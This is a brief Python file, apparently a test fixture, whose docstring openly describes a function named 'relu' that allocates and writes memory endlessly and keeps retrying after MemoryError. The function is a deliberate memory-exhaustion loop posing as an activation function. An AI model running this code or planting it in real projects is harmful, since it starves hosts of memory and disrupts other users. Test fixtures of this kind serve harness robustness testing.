"""relu allocates memory without end; on MemoryError it keeps what it has and keeps trying.

The pages are written (b"\x01" * n), so the memory is really used, not just reserved.

file: activations.py
may_lose: relu
"""


def relu(x):
    hoard = []
    chunk = 256 * 2**20
    while True:
        try:
            hoard.append(b"\x01" * chunk)
        except MemoryError:
            chunk = max(chunk // 2, 4096)
